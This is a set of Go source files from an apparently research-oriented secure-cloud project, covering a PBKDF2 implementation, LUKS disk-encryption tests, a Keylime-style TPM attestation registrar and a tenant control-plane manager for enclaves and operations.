			k.name, wall[0].Round(time.Microsecond), wall[1].Round(time.Microsecond),
			slow*100, stats.Msgs, float64(stats.CommBytes)/float64(stats.Msgs))
	}
	fmt.Println("\nnote: in-process ranks make communication vastly cheaper than a real")
	fmt.Println("cluster network, so wall-clock slowdowns are muted; the per-app message")
	fmt.Println("PROFILES (count and size) are what drive Figure 7's ordering — EP a")
	fmt.Println("handful of reductions, CG thousands of small messages, FT bulk blocks.")
}
