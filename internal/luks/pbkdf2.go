package luks

import (
	"crypto/hmac"
	"crypto/sha256"
	"encoding/binary"
)

// pbkdf2SHA256 derives keyLen bytes from a passphrase and salt using
// PBKDF2-HMAC-SHA256 (RFC 8018). The standard library has no PBKDF2, so
// the LUKS substrate carries its own.
func pbkdf2SHA256(pass, salt []byte, iter, keyLen int) []byte {
	prf := hmac.New(sha256.New, pass)
	hashLen := prf.Size()
	numBlocks := (keyLen + hashLen - 1) / hashLen

	dk := make([]byte, 0, numBlocks*hashLen)
	var block [4]byte
	u := make([]byte, hashLen)
	for i := 1; i <= numBlocks; i++ {
		prf.Reset()
		prf.Write(salt)
		binary.BigEndian.PutUint32(block[:], uint32(i))
		prf.Write(block[:])
		t := prf.Sum(nil)
		copy(u, t)
		for n := 2; n <= iter; n++ {
			prf.Reset()
			prf.Write(u)
			u = prf.Sum(u[:0])
			for x := range t {
				t[x] ^= u[x]
			}
		}
		dk = append(dk, t...)
	}
	return dk[:keyLen]
}
