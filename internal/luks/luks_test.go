package luks

import (
	"bytes"
	"encoding/hex"
	"errors"
	"math/rand"
	"sync"
	"testing"
	"testing/quick"

	"bolted/internal/blockdev"
)

// PBKDF2-HMAC-SHA256 known-answer vectors (RFC 7914 §11).
func TestPBKDF2Vectors(t *testing.T) {
	cases := []struct {
		pass, salt string
		iter       int
		want       string
	}{
		{"passwd", "salt", 1, "55ac046e56e3089fec1691c22544b605f94185216dde0465e68b9d57c20dacbc"},
		{"Password", "NaCl", 80000, "4ddcd8f60b98be21830cee5ef22701f9641a4418d04c0414aeff08876b34ab56"},
	}
	for _, tc := range cases {
		got := pbkdf2SHA256([]byte(tc.pass), []byte(tc.salt), tc.iter, 32)
		want, _ := hex.DecodeString(tc.want)
		if !bytes.Equal(got, want) {
			t.Errorf("pbkdf2(%q,%q,%d) = %x, want %x", tc.pass, tc.salt, tc.iter, got, want)
		}
	}
}

func TestPBKDF2LongOutput(t *testing.T) {
	// Multi-block derivation: prefix property.
	short := pbkdf2SHA256([]byte("p"), []byte("s"), 10, 32)
	long := pbkdf2SHA256([]byte("p"), []byte("s"), 10, 80)
	if !bytes.Equal(long[:32], short) {
		t.Fatal("longer derivation does not extend shorter one")
	}
	if len(long) != 80 {
		t.Fatalf("len = %d", len(long))
	}
}

func newDisk(t testing.TB, size int64) *blockdev.RAMDisk {
	t.Helper()
	d, err := blockdev.NewRAMDisk(size)
	if err != nil {
		t.Fatal(err)
	}
	return d
}

func format(t testing.TB, dev blockdev.Device, pass string) *Volume {
	t.Helper()
	v, err := FormatWithIterations(dev, []byte(pass), 16) // fast KDF for tests
	if err != nil {
		t.Fatal(err)
	}
	return v
}

func TestFormatOpenRoundTrip(t *testing.T) {
	disk := newDisk(t, 1<<20)
	v := format(t, disk, "tenant-secret")
	data := bytes.Repeat([]byte("confidential"), 128)[:2*blockdev.SectorSize]
	if err := v.WriteSectors(data, 7); err != nil {
		t.Fatal(err)
	}
	// Reopen with the right passphrase.
	v2, err := Open(disk, []byte("tenant-secret"))
	if err != nil {
		t.Fatal(err)
	}
	got := make([]byte, len(data))
	if err := v2.ReadSectors(got, 7); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, data) {
		t.Fatal("reopened volume lost data")
	}
}

func TestWrongPassphraseFails(t *testing.T) {
	disk := newDisk(t, 1<<20)
	format(t, disk, "right")
	if _, err := Open(disk, []byte("wrong")); !errors.Is(err, ErrNoMatchingKey) {
		t.Fatalf("err = %v, want ErrNoMatchingKey", err)
	}
}

func TestUnformattedRejected(t *testing.T) {
	disk := newDisk(t, 1<<20)
	if _, err := Open(disk, []byte("x")); !errors.Is(err, ErrNotFormatted) {
		t.Fatalf("err = %v, want ErrNotFormatted", err)
	}
	tiny := newDisk(t, 4*blockdev.SectorSize)
	if _, err := Open(tiny, []byte("x")); err == nil {
		t.Fatal("tiny device accepted")
	}
}

func TestCiphertextOnDisk(t *testing.T) {
	disk := newDisk(t, 1<<20)
	v := format(t, disk, "pw")
	plain := bytes.Repeat([]byte("SECRETDATA"), 52)[:blockdev.SectorSize]
	v.WriteSectors(plain, 0)
	// The raw device must never contain the plaintext.
	raw := make([]byte, 1<<20)
	disk.ReadSectors(raw, 0)
	if bytes.Contains(raw, []byte("SECRETDATA")) {
		t.Fatal("plaintext visible on underlying device")
	}
}

func TestEqualSectorsEncryptDifferently(t *testing.T) {
	disk := newDisk(t, 1<<20)
	v := format(t, disk, "pw")
	sector := bytes.Repeat([]byte{0xAA}, blockdev.SectorSize)
	v.WriteSectors(sector, 0)
	v.WriteSectors(sector, 1)
	a := make([]byte, blockdev.SectorSize)
	b := make([]byte, blockdev.SectorSize)
	disk.ReadSectors(a, headerSectors)
	disk.ReadSectors(b, headerSectors+1)
	if bytes.Equal(a, b) {
		t.Fatal("identical plaintext sectors produced identical ciphertext (tweak broken)")
	}
}

func TestAddRemoveKey(t *testing.T) {
	disk := newDisk(t, 1<<20)
	v := format(t, disk, "alpha")
	data := make([]byte, blockdev.SectorSize)
	copy(data, "payload")
	v.WriteSectors(data, 0)

	if err := AddKey(disk, []byte("alpha"), []byte("beta")); err != nil {
		t.Fatal(err)
	}
	v2, err := Open(disk, []byte("beta"))
	if err != nil {
		t.Fatal(err)
	}
	got := make([]byte, blockdev.SectorSize)
	v2.ReadSectors(got, 0)
	if !bytes.Equal(got, data) {
		t.Fatal("second passphrase sees different data")
	}

	if err := AddKey(disk, []byte("nope"), []byte("x")); !errors.Is(err, ErrNoMatchingKey) {
		t.Fatalf("AddKey with wrong passphrase: %v", err)
	}

	if err := RemoveKey(disk, []byte("alpha")); err != nil {
		t.Fatal(err)
	}
	if _, err := Open(disk, []byte("alpha")); !errors.Is(err, ErrNoMatchingKey) {
		t.Fatal("removed passphrase still opens")
	}
	if _, err := Open(disk, []byte("beta")); err != nil {
		t.Fatal("surviving passphrase no longer opens")
	}
	if err := RemoveKey(disk, []byte("alpha")); !errors.Is(err, ErrNoMatchingKey) {
		t.Fatalf("removing non-existent key: %v", err)
	}
}

func TestSlotsFill(t *testing.T) {
	disk := newDisk(t, 1<<20)
	format(t, disk, "p0")
	for i := 1; i < NumSlots; i++ {
		if err := AddKey(disk, []byte("p0"), []byte{byte('p'), byte('0' + i)}); err != nil {
			t.Fatalf("slot %d: %v", i, err)
		}
	}
	if err := AddKey(disk, []byte("p0"), []byte("overflow")); !errors.Is(err, ErrSlotsFull) {
		t.Fatalf("9th key: %v, want ErrSlotsFull", err)
	}
}

func TestOpenWithMasterKey(t *testing.T) {
	disk := newDisk(t, 1<<20)
	mk := make([]byte, MasterKeySize)
	for i := range mk {
		mk[i] = byte(i)
	}
	// Keylime-style: format normally, then recover the master key via
	// passphrase and re-open with it directly.
	v := format(t, disk, "pw")
	data := make([]byte, blockdev.SectorSize)
	copy(data, "keylime delivered")
	v.WriteSectors(data, 3)

	h, err := readHeader(disk)
	if err != nil {
		t.Fatal(err)
	}
	recovered, err := unsealKey([]byte("pw"), h.Slots[0])
	if err != nil {
		t.Fatal(err)
	}
	v2, err := OpenWithMasterKey(disk, recovered)
	if err != nil {
		t.Fatal(err)
	}
	got := make([]byte, blockdev.SectorSize)
	v2.ReadSectors(got, 3)
	if !bytes.Equal(got, data) {
		t.Fatal("master-key open sees different data")
	}
	if _, err := OpenWithMasterKey(disk, mk); err == nil {
		t.Fatal("wrong master key accepted")
	}
}

func TestVolumeBounds(t *testing.T) {
	disk := newDisk(t, 64*blockdev.SectorSize)
	v := format(t, disk, "pw")
	want := int64(64 - headerSectors)
	if v.NumSectors() != want {
		t.Fatalf("NumSectors = %d, want %d", v.NumSectors(), want)
	}
	buf := make([]byte, blockdev.SectorSize)
	if err := v.ReadSectors(buf, want); !errors.Is(err, blockdev.ErrOutOfRange) {
		t.Fatalf("read past end: %v", err)
	}
	if err := v.WriteSectors(buf, -1); !errors.Is(err, blockdev.ErrOutOfRange) {
		t.Fatalf("negative write: %v", err)
	}
	if err := v.ReadSectors(make([]byte, 10), 0); err == nil {
		t.Fatal("unaligned read accepted")
	}
}

func TestVolumeOverNBD(t *testing.T) {
	// LUKS over the network block device: the Figure 3c "LUKS" stack.
	disk := newDisk(t, 1<<20)
	client, err := blockdev.NewClient(blockdev.Loopback{Target: blockdev.NewTarget(disk)}, blockdev.TunedReadAhead)
	if err != nil {
		t.Fatal(err)
	}
	v, err := FormatWithIterations(client, []byte("pw"), 16)
	if err != nil {
		t.Fatal(err)
	}
	data := bytes.Repeat([]byte{3}, 8*blockdev.SectorSize)
	if err := v.WriteSectors(data, 0); err != nil {
		t.Fatal(err)
	}
	got := make([]byte, len(data))
	if err := v.ReadSectors(got, 0); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, data) {
		t.Fatal("LUKS-over-NBD mismatch")
	}
}

// Property: arbitrary write/read sequences round-trip.
func TestQuickVolumeRoundTrip(t *testing.T) {
	disk := newDisk(t, 256*blockdev.SectorSize)
	v := format(t, disk, "pw")
	n := v.NumSectors()
	f := func(sector uint16, content [blockdev.SectorSize]byte) bool {
		s := int64(sector) % n
		if err := v.WriteSectors(content[:], s); err != nil {
			return false
		}
		got := make([]byte, blockdev.SectorSize)
		if err := v.ReadSectors(got, s); err != nil {
			return false
		}
		return bytes.Equal(got, content[:])
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 100}); err != nil {
		t.Error(err)
	}
}

// TestParallelMatchesSerial writes a large span through a sharded
// volume and verifies both the decrypted contents and the on-disk
// ciphertext are byte-identical to a fully serial volume: sharding must
// not change what lands on the device, only how fast it gets there.
func TestParallelMatchesSerial(t *testing.T) {
	const spanSectors = 512 // well above the parallel crossover
	data := make([]byte, spanSectors*blockdev.SectorSize)
	rand.New(rand.NewSource(1)).Read(data)

	serialDisk := newDisk(t, 1<<20)
	serial, err := FormatWithIterations(serialDisk, []byte("pw"), 16)
	if err != nil {
		t.Fatal(err)
	}
	// Same master key on a second disk so ciphertext is comparable.
	parDisk := newDisk(t, 1<<20)
	hdr := make([]byte, headerBytes)
	if err := serialDisk.ReadSectors(hdr, 0); err != nil {
		t.Fatal(err)
	}
	parDisk.WriteSectors(hdr, 0)
	par, err := Open(parDisk, []byte("pw"))
	if err != nil {
		t.Fatal(err)
	}
	if err := par.SetParallelism(4); err != nil {
		t.Fatal(err)
	}

	if err := serial.WriteSectors(data, 3); err != nil {
		t.Fatal(err)
	}
	if err := par.WriteSectors(data, 3); err != nil {
		t.Fatal(err)
	}

	// On-disk ciphertext must be identical sector for sector.
	rawA := make([]byte, len(data))
	rawB := make([]byte, len(data))
	serialDisk.ReadSectors(rawA, headerSectors+3)
	parDisk.ReadSectors(rawB, headerSectors+3)
	if !bytes.Equal(rawA, rawB) {
		t.Fatal("sharded encryption produced different ciphertext than serial")
	}

	// Parallel read of serially written data (and vice versa).
	got := make([]byte, len(data))
	if err := par.ReadSectors(got, 3); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, data) {
		t.Fatal("parallel read of serial write mismatch")
	}
	got2 := make([]byte, len(data))
	if err := serial.ReadSectors(got2, 3); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got2, data) {
		t.Fatal("serial read of parallel write mismatch")
	}
}

// TestConcurrentVolumeIO hammers a sharded volume from many goroutines
// on disjoint ranges; run under -race this proves the worker pool and
// buffer pool share no unsynchronized state.
func TestConcurrentVolumeIO(t *testing.T) {
	disk := newDisk(t, 4<<20)
	v := format(t, disk, "pw")
	if err := v.SetParallelism(4); err != nil {
		t.Fatal(err)
	}
	const goroutines = 4
	const spanSectors = 256
	var wg sync.WaitGroup
	errs := make([]error, goroutines)
	for g := 0; g < goroutines; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			start := int64(g * spanSectors)
			data := make([]byte, spanSectors*blockdev.SectorSize)
			rand.New(rand.NewSource(int64(g))).Read(data)
			for iter := 0; iter < 3; iter++ {
				if err := v.WriteSectors(data, start); err != nil {
					errs[g] = err
					return
				}
				got := make([]byte, len(data))
				if err := v.ReadSectors(got, start); err != nil {
					errs[g] = err
					return
				}
				if !bytes.Equal(got, data) {
					errs[g] = errors.New("round-trip mismatch")
					return
				}
			}
		}(g)
	}
	wg.Wait()
	for _, err := range errs {
		if err != nil {
			t.Fatal(err)
		}
	}
}
