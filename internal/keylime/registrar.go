package keylime

import (
	"crypto/ecdh"
	"crypto/ecdsa"
	"crypto/hmac"
	"crypto/rand"
	"crypto/sha256"
	"errors"
	"fmt"
	"io"
	"sync"

	"bolted/internal/tpm"
)

// RegistrarConn is the component-side view of a registrar: enrolment
// for agents, certified-key lookup for verifiers and tenants. It is
// satisfied by *Registrar in process and by *RegistrarClient over HTTP,
// so a tenant-run verifier can use a provider registrar it only reaches
// over the network.
type RegistrarConn interface {
	Register(uuid string, ekPub *ecdh.PublicKey, aikPub *ecdsa.PublicKey) (*tpm.CredentialBlob, error)
	Activate(uuid string, proof []byte) error
	AIK(uuid string) (*ecdsa.PublicKey, error)
	EK(uuid string) (*ecdh.PublicKey, error)
}

// Registrar stores and certifies agents' attestation identity keys. It
// is a pure trust root: it holds no tenant secrets (§5). An AIK is
// certified only after the agent proves, via TPM credential activation,
// that the AIK lives in the same TPM as the claimed endorsement key.
type Registrar struct {
	mu      sync.Mutex
	entries map[string]*regEntry
}

type regEntry struct {
	ekPub     *ecdh.PublicKey
	aikPub    *ecdsa.PublicKey
	challenge []byte // secret the agent must prove knowledge of
	activated bool
}

// NewRegistrar creates an empty registrar.
func NewRegistrar() *Registrar {
	return &Registrar{entries: make(map[string]*regEntry)}
}

// Register begins enrolment of an agent's keys and returns the
// credential blob challenge. Re-registration (e.g. after reboot with a
// new AIK) restarts the binding from scratch.
func (r *Registrar) Register(uuid string, ekPub *ecdh.PublicKey, aikPub *ecdsa.PublicKey) (*tpm.CredentialBlob, error) {
	if uuid == "" || ekPub == nil || aikPub == nil {
		return nil, errors.New("keylime: registration needs uuid, EK and AIK")
	}
	secret := make([]byte, 32)
	if _, err := io.ReadFull(rand.Reader, secret); err != nil {
		return nil, err
	}
	blob, err := tpm.MakeCredential(ekPub, tpm.AIKBinding(aikPub), secret)
	if err != nil {
		return nil, err
	}
	r.mu.Lock()
	r.entries[uuid] = &regEntry{ekPub: ekPub, aikPub: aikPub, challenge: secret}
	r.mu.Unlock()
	return blob, nil
}

// activationProof is what the agent returns: HMAC(secret, uuid), proving
// it recovered the challenge without revealing it on the wire.
func activationProof(secret []byte, uuid string) []byte {
	mac := hmac.New(sha256.New, secret)
	mac.Write([]byte(uuid))
	return mac.Sum(nil)
}

// Activate completes enrolment: the proof demonstrates the agent's TPM
// decrypted the challenge, binding AIK to EK.
func (r *Registrar) Activate(uuid string, proof []byte) error {
	r.mu.Lock()
	defer r.mu.Unlock()
	e, ok := r.entries[uuid]
	if !ok {
		return fmt.Errorf("keylime: unknown agent %q", uuid)
	}
	if !hmac.Equal(proof, activationProof(e.challenge, uuid)) {
		return errors.New("keylime: activation proof invalid")
	}
	e.activated = true
	return nil
}

// AIK returns an agent's certified attestation key; it fails before
// activation completes — an unactivated AIK proves nothing.
func (r *Registrar) AIK(uuid string) (*ecdsa.PublicKey, error) {
	r.mu.Lock()
	defer r.mu.Unlock()
	e, ok := r.entries[uuid]
	if !ok {
		return nil, fmt.Errorf("keylime: unknown agent %q", uuid)
	}
	if !e.activated {
		return nil, fmt.Errorf("keylime: agent %q not activated", uuid)
	}
	return e.aikPub, nil
}

// EK returns the endorsement key an agent registered with, for tenants
// to compare against the provider-published node metadata (anti-
// spoofing: the node you attest is the node HIL says you reserved).
func (r *Registrar) EK(uuid string) (*ecdh.PublicKey, error) {
	r.mu.Lock()
	defer r.mu.Unlock()
	e, ok := r.entries[uuid]
	if !ok {
		return nil, fmt.Errorf("keylime: unknown agent %q", uuid)
	}
	if !e.activated {
		return nil, fmt.Errorf("keylime: agent %q not activated", uuid)
	}
	return e.ekPub, nil
}
