package core

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"sort"
	"sync"

	"bolted/internal/keylime"
	"bolted/internal/obs"
	"bolted/internal/store"
)

// This file is the server side of the tenant control plane: where PR 2
// left every tenant embedding the orchestrator and blocking on a
// multi-minute AcquireNodes call, the Manager holds named enclaves as
// server-side resources and runs acquisitions as asynchronous
// Operations the tenant polls, streams, or cancels through the /v1
// API (internal/remote). The same state machine and provisioner from
// the in-process path do the work; the Manager only adds naming,
// lifecycle, and journal fan-out.

// Control-plane sentinel errors, mapped onto typed wire envelopes by
// internal/remote and back into errors.Is-compatible values client-side.
var (
	// ErrNotFound names an enclave, operation or node the manager does
	// not know.
	ErrNotFound = errors.New("core: not found")
	// ErrExists rejects creating a resource under a taken name.
	ErrExists = errors.New("core: already exists")
	// ErrConflict rejects an action the resource's current state
	// forbids (e.g. deleting an enclave with a running operation).
	ErrConflict = errors.New("core: conflict")
	// ErrInvalid rejects a malformed argument (e.g. an inconsistent
	// guard policy).
	ErrInvalid = errors.New("core: invalid argument")
)

// MaxRetainedOps bounds how many operations the manager keeps per
// enclave: beyond it, the oldest terminal operations are forgotten. A
// long-running boltedd must not grow memory with every acquisition it
// ever served.
const MaxRetainedOps = 64

// Manager is the control-plane registry: named enclaves and the
// operations running against them. One Manager serves all tenants of a
// boltedd; it is safe for concurrent use.
type Manager struct {
	cloud *Cloud
	// store is the durable control-plane log (persist.go): every
	// mutation commits here before it is acknowledged. Defaults to
	// store.Discard for managers built without durability.
	store store.Store

	// tracer records one trace per operation (trace ID = operation ID),
	// retention mirroring MaxRetainedOps. Always non-nil.
	tracer *obs.Tracer

	mu       sync.Mutex
	enclaves map[string]*Enclave
	deleting map[string]bool // enclaves mid-Destroy; refuse new work
	ops      map[string]*Operation
	byencl   map[string][]*Operation // enclave -> its operations
	opSeq    int
	// idem maps a client Idempotency-Key to the operation it started, so
	// a retried acquire (including across a restart) returns the
	// existing operation instead of starting a duplicate batch.
	idem map[string]string
	// guardPolicies holds the raw policy JSON of attached (or recovered,
	// not-yet-reattached) guards, keyed by enclave.
	guardPolicies map[string]json.RawMessage

	// Tenant QoS state (sched.go): per-tenant quotas and the global
	// queue-depth admission bound. Violations surface as ErrOverQuota,
	// which /v1 maps to 429 + Retry-After.
	quotas        map[string]TenantQuota
	maxSchedQueue int

	// Runtime-guard state (incident.go): attached guards, tracked
	// incidents with their replayable update feed, per-enclave verifier
	// revocation feeds, and the verifier unsubscribe hooks.
	guards      map[string]GuardController
	incidents   map[string]*Incident
	incOrder    []*Incident // creation order, for retention pruning
	incSeq      int
	incFeed     []IncidentStatus
	incFeedBase int
	incNotify   chan struct{}
	revFeeds    map[string]*revFeed
	revUnsubs   map[string]func()
}

// NewManager builds an empty control plane over a cloud.
func NewManager(c *Cloud) *Manager {
	return &Manager{
		cloud:         c,
		store:         store.Discard{},
		tracer:        obs.NewTracer(MaxRetainedOps),
		enclaves:      make(map[string]*Enclave),
		deleting:      make(map[string]bool),
		ops:           make(map[string]*Operation),
		byencl:        make(map[string][]*Operation),
		idem:          make(map[string]string),
		guardPolicies: make(map[string]json.RawMessage),
		quotas:        make(map[string]TenantQuota),
		maxSchedQueue: DefaultMaxSchedQueue,
		guards:        make(map[string]GuardController),
		incidents:     make(map[string]*Incident),
		incNotify:     make(chan struct{}),
		revFeeds:      make(map[string]*revFeed),
		revUnsubs:     make(map[string]func()),
	}
}

// CreateEnclave creates a named enclave resource under a profile.
func (m *Manager) CreateEnclave(name string, p Profile) (*Enclave, error) {
	if name == "" {
		return nil, fmt.Errorf("core: enclave needs a name")
	}
	m.mu.Lock()
	defer m.mu.Unlock()
	if _, ok := m.enclaves[name]; ok {
		return nil, fmt.Errorf("%w: enclave %q", ErrExists, name)
	}
	e, err := NewEnclave(m.cloud, name, p)
	if err != nil {
		return nil, err
	}
	// Commit before acknowledge: if the record cannot be made durable the
	// enclave must not exist — tear the just-created project back down
	// and refuse the mutation.
	if err := m.appendRecord(store.KindEnclaveCreated, enclaveRecord{Name: name, Profile: p}); err != nil {
		_ = e.Destroy()
		return nil, fmt.Errorf("core: persist enclave %q: %w", name, err)
	}
	m.attachJournalPersist(name, e)
	m.enclaves[name] = e
	if v := e.Verifier(); v != nil {
		// Mirror the verifier's in-process revocation fan-out into the
		// manager so it reaches the wire: the /v1 revocation stream, the
		// incident registry, and (when enabled) the runtime guard. A
		// remote tenant would otherwise never learn a node was revoked.
		m.revUnsubs[name] = v.Subscribe(func(ev keylime.RevocationEvent) {
			m.noteRevocation(name, ev)
		})
	}
	return e, nil
}

// Enclave returns a named enclave. An enclave mid-delete is already
// gone from the control plane's point of view.
func (m *Manager) Enclave(name string) (*Enclave, error) {
	m.mu.Lock()
	defer m.mu.Unlock()
	e, ok := m.enclaves[name]
	if !ok || m.deleting[name] {
		return nil, fmt.Errorf("%w: enclave %q", ErrNotFound, name)
	}
	return e, nil
}

// ListEnclaves returns the enclave names, sorted.
func (m *Manager) ListEnclaves() []string {
	m.mu.Lock()
	defer m.mu.Unlock()
	out := make([]string, 0, len(m.enclaves))
	for n := range m.enclaves {
		out = append(out, n)
	}
	sort.Strings(out)
	return out
}

// DeleteEnclave releases every node and removes the enclave. It
// refuses while an operation on the enclave is still in flight — the
// tenant must cancel (and wait out) the operation first. The enclave
// is marked deleting before the lock drops, so a concurrent
// StartAcquire cannot begin a batch that races the destroy.
func (m *Manager) DeleteEnclave(name string) error {
	m.mu.Lock()
	e, ok := m.enclaves[name]
	if !ok || m.deleting[name] {
		m.mu.Unlock()
		return fmt.Errorf("%w: enclave %q", ErrNotFound, name)
	}
	for _, op := range m.byencl[name] {
		if !op.Phase().Terminal() {
			m.mu.Unlock()
			return fmt.Errorf("%w: enclave %q has running operation %s", ErrConflict, name, op.ID)
		}
	}
	m.deleting[name] = true
	guard := m.guards[name]
	delete(m.guards, name)
	m.mu.Unlock()

	// The guard goes first: its monitoring rounds and incident
	// responses must not race the teardown of the enclave they drive.
	if guard != nil {
		guard.Stop()
	}
	err := e.Destroy()
	m.mu.Lock()
	delete(m.deleting, name)
	if err == nil {
		delete(m.enclaves, name)
		// The enclave's operations (all terminal — checked above) go
		// with it; retaining them forever would leak on busy servers.
		for _, op := range m.byencl[name] {
			delete(m.ops, op.ID)
		}
		delete(m.byencl, name)
		if unsub := m.revUnsubs[name]; unsub != nil {
			delete(m.revUnsubs, name)
			defer unsub()
		}
		delete(m.revFeeds, name)
		delete(m.guardPolicies, name)
	}
	// When Destroy fails the enclave lives on, but its guard stays
	// detached (and stopped): the tenant re-enables explicitly.
	m.mu.Unlock()
	if err == nil {
		// Destroy first, then commit: a crash in between replays an
		// enclave whose journal already released every node — it comes
		// back empty, never as orphaned hardware.
		if perr := m.appendRecord(store.KindEnclaveDeleted, enclaveNameRecord{Enclave: name}); perr != nil {
			return fmt.Errorf("core: enclave %q deleted but not committed: %w", name, perr)
		}
	}
	return err
}

// pruneOpsLocked forgets the oldest terminal operations of an enclave
// beyond the retention bound. Callers hold m.mu.
func (m *Manager) pruneOpsLocked(enclave string) {
	ops := m.byencl[enclave]
	i := 0
	dropped := make(map[string]bool)
	for len(ops)-i > MaxRetainedOps && ops[i].Phase().Terminal() {
		delete(m.ops, ops[i].ID)
		dropped[ops[i].ID] = true
		i++
	}
	if i > 0 {
		m.byencl[enclave] = append([]*Operation(nil), ops[i:]...)
		// Idempotency keys die with their operations; a retry under a
		// pruned key reports the operation unretained rather than
		// silently starting a second batch under a "retried" key.
		for k, id := range m.idem {
			if dropped[id] {
				delete(m.idem, k)
			}
		}
	}
}

// StartAcquire begins an asynchronous batch acquisition against a
// named enclave and returns its Operation immediately. The batch runs
// under the manager's own cancellable context — Operation.Cancel (or
// the /v1 cancel endpoint) stops it at the next phase boundary, and
// the enclave's lifecycle journal fans out to the operation's event
// stream for as long as it runs. One acquisition runs per enclave at
// a time: the journal is enclave-scoped, so a second concurrent batch
// would contaminate the first operation's event stream and progress —
// it is refused with ErrConflict (tenants wanting parallel batches use
// parallel enclaves).
func (m *Manager) StartAcquire(enclave, image string, n int) (*Operation, error) {
	op, _, err := m.StartAcquireIdem(enclave, image, n, "")
	return op, err
}

// StartAcquireIdem is StartAcquire with an optional client idempotency
// key. A non-empty key is committed with the operation record; retrying
// with the same key — before or after a control-plane restart — returns
// the original operation (replayed=true) instead of starting a duplicate
// batch. A retried operation that the restart interrupted comes back with
// phase OpInterrupted, so the client sees the interruption explicitly and
// re-submits under a fresh key.
func (m *Manager) StartAcquireIdem(enclave, image string, n int, idemKey string) (op *Operation, replayed bool, err error) {
	if n < 1 {
		return nil, false, fmt.Errorf("core: batch size must be at least 1")
	}
	ctx, cancel := context.WithCancel(context.Background())
	// Lookup and registration are one critical section: once the
	// operation is in byencl, DeleteEnclave cannot pass its in-flight
	// check and destroy the enclave under the batch.
	m.mu.Lock()
	e, ok := m.enclaves[enclave]
	if !ok || m.deleting[enclave] {
		m.mu.Unlock()
		cancel()
		return nil, false, fmt.Errorf("%w: enclave %q", ErrNotFound, enclave)
	}
	if idemKey != "" {
		if id, ok := m.idem[idemKey]; ok {
			prev, tracked := m.ops[id]
			m.mu.Unlock()
			cancel()
			if !tracked {
				return nil, false, fmt.Errorf("%w: operation %s for idempotency key no longer retained", ErrNotFound, id)
			}
			return prev, true, nil
		}
	}
	for _, prev := range m.byencl[enclave] {
		if !prev.Phase().Terminal() {
			m.mu.Unlock()
			cancel()
			return nil, false, fmt.Errorf("%w: enclave %q already has operation %s in flight", ErrConflict, enclave, prev.ID)
		}
	}
	// Degraded fail-fast: with a backend breaker open the batch would
	// only burn its retry budget into a dead service and strand nodes in
	// the rejected pool. The typed error carries a Retry-After hint; the
	// /v1 surface maps it to 503.
	if err := m.cloud.CheckDegraded(); err != nil {
		m.mu.Unlock()
		cancel()
		return nil, false, err
	}
	if err := m.admitAcquireLocked(enclave, e, n); err != nil {
		m.mu.Unlock()
		cancel()
		if errors.Is(err, ErrOverQuota) {
			m.cloud.metrics.quotaRejections.With(enclave).Inc()
		}
		return nil, false, err
	}
	m.opSeq++
	op = newOperation(fmt.Sprintf("op-%04d", m.opSeq), enclave, image, n, cancel)
	op.seq = m.opSeq
	// Commit before acknowledge: the operation record (with its
	// idempotency key) must be durable before the tenant learns the op
	// ID, or a crash could orphan a batch no retry can find.
	rec := opStartedRecord{ID: op.ID, Enclave: enclave, Image: image, Count: n, Created: op.Created, IdemKey: idemKey}
	if err := m.appendRecord(store.KindOpStarted, rec); err != nil {
		m.opSeq--
		m.mu.Unlock()
		cancel()
		return nil, false, fmt.Errorf("core: persist operation: %w", err)
	}
	m.ops[op.ID] = op
	m.byencl[enclave] = append(m.byencl[enclave], op)
	if idemKey != "" {
		m.idem[idemKey] = op.ID
	}
	m.pruneOpsLocked(enclave)
	m.mu.Unlock()

	// The trace shares the operation's ID and lifetime: one root span
	// for the whole acquisition, node×phase children emitted by the
	// provisioner through the context.
	root := m.tracer.StartTrace(op.ID, "acquire "+enclave)
	runCtx := obs.WithTrace(ctx, obs.TraceContext{Tracer: m.tracer, Trace: op.ID, Parent: root.ID()})
	unwatch := e.Journal().Watch(op.observe)
	go func() {
		defer cancel()
		defer unwatch()
		op.setRunning()
		res, err := e.AcquireNodes(runCtx, image, n)
		root.End(err)
		// The manager owns ctx, so a context.Canceled outcome can only
		// mean the tenant's cancel — the operation's own terminal state,
		// not a failure.
		op.finish(res, err, errors.Is(err, context.Canceled))
		// Best-effort terminal record: if it cannot commit, the next
		// recovery replays the op as interrupted — indistinguishable from
		// crashing here, which is the semantics we want.
		st := op.Status()
		fin := opFinishedRecord{ID: op.ID, Phase: st.Phase, Finished: st.Finished}
		if st.Err != nil {
			fin.Error = st.Err.Error()
		}
		_ = m.appendRecord(store.KindOpFinished, fin)
	}()
	return op, false, nil
}

// admitAcquireLocked is the /v1 admission gate: global queue-depth
// backpressure first, then the tenant's own in-flight and footprint
// caps. Callers hold m.mu. Rejections are QuotaErrors, so they cross
// the wire as 429 + Retry-After and match ErrOverQuota.
func (m *Manager) admitAcquireLocked(tenant string, e *Enclave, n int) error {
	if lim := m.maxSchedQueue; lim > 0 {
		if q := m.cloud.Scheduler().Queued(); q >= lim {
			return &QuotaError{
				Tenant:     tenant,
				Detail:     fmt.Sprintf("airlock queue depth %d at admission limit %d", q, lim),
				RetryAfter: DefaultRetryAfter,
			}
		}
	}
	q, ok := m.quotas[tenant]
	if !ok {
		return nil
	}
	inflight := m.inflightLocked(tenant)
	if q.MaxInFlight > 0 && inflight+n > q.MaxInFlight {
		return &QuotaError{
			Tenant:     tenant,
			Detail:     fmt.Sprintf("tenant %q would have %d nodes in flight, cap is %d", tenant, inflight+n, q.MaxInFlight),
			RetryAfter: DefaultRetryAfter,
		}
	}
	if q.MaxNodes > 0 {
		members := len(e.Nodes())
		if members+inflight+n > q.MaxNodes {
			return &QuotaError{
				Tenant:     tenant,
				Detail:     fmt.Sprintf("tenant %q would hold %d nodes, quota is %d", tenant, members+inflight+n, q.MaxNodes),
				RetryAfter: DefaultRetryAfter,
			}
		}
	}
	return nil
}

// inflightLocked counts the tenant's nodes mid-acquisition (requested
// by operations that have not reached a terminal phase). Callers hold
// m.mu.
func (m *Manager) inflightLocked(tenant string) int {
	n := 0
	for _, op := range m.byencl[tenant] {
		if !op.Phase().Terminal() {
			n += op.Count
		}
	}
	return n
}

